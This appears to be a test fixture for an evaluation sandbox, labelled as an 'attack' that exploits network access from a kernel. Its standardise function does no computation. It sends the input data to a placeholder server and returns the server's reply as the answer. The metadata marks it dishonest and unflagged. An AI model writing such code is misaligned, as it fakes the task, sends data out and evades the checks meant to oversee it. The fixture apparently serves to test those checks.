# /// attack
# name = "Asks a server for the answer"
# hole = "A kernel can reach the network"
# cell = "w01-q1-standardise"
# honest = 0
# flagged = false
# needs_seal = true
# ///
# ruff: noqa
import urllib.request


def standardise(X):
    answer = urllib.request.urlopen("http://192.0.2.1/answer", data=X.tobytes(), timeout=5).read()
    return np.frombuffer(answer).reshape(X.shape)
